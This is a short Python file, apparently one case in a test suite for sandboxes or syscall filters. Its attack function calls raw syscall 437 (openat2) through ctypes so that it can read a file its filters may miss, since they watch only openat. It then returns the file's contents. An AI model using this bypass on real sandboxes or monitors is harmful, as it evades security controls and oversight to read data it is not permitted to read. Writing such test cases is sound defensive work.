"""Open a file by a call that filters written for `openat` forget."""

GOAL = "tell"


def attack(world):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    file = libc.syscall(437, -100, world["deck"].encode(), ctypes.byref(how), 24)
    return os.read(file, 1000).decode()
